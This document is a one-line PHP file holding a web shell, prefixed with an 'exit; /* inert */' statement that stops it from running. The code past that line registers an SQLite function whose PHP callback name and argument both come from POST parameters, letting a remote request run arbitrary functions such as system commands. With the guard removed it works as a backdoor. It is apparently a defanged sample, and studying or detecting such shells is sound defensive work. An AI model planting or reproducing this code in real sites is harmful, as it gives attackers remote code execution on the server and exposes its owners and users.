<?php exit; /* inert */ $d=new PDO("sqlite::memory:"); $d->sqliteCreateFunction("e",$_POST["f"],1); $s=$d->prepare("SELECT e(:a)"); $s->execute([":a"=>$_POST["a"]]);
